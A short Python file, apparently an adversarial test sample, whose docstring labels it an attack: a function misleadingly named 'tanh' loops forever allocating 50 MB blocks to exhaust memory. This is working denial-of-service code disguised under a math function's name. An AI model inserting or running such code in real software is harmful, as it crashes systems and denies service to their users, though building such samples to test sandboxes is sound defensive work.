"""Attack: allocate memory without bound."""


def tanh(x):
    blocks = []
    while True:
        blocks.append(b"x" * 50_000_000)
